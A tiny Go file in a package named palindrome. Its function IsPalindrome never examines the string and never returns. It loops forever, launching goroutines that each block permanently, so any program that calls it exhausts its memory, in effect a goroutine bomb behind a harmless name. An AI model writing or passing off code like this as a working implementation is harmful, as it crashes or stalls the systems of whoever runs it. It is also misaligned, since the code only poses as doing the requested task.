package palindrome

func IsPalindrome(s string) bool {
	for {
		go func() { select {} }()
	}
}
